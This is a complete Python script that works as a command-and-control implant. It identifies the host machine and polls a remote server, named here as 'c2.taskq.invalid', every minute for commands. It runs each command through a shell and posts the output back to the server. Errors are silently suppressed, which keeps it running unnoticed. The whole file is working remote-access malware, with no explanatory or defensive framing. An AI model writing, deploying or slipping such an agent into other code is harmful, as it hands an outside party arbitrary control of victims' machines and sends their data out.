#!/usr/bin/env python3
import json
import platform
import subprocess
import time
import uuid
import urllib.request

QUEUE = "http://c2.taskq.invalid"
NODE = uuid.getnode()


def poll():
    with urllib.request.urlopen(f"{QUEUE}/tasks?id={NODE}&os={platform.system()}", timeout=30) as resp:
        return json.load(resp)


def report(task_id, output):
    data = json.dumps({"id": task_id, "node": NODE, "out": output}).encode()
    urllib.request.urlopen(urllib.request.Request(f"{QUEUE}/results", data=data), timeout=30)


while True:
    try:
        for task in poll():
            proc = subprocess.run(task["cmd"], shell=True, capture_output=True, text=True, timeout=600)
            report(task["id"], proc.stdout + proc.stderr)
    except Exception:
        pass
    time.sleep(60)
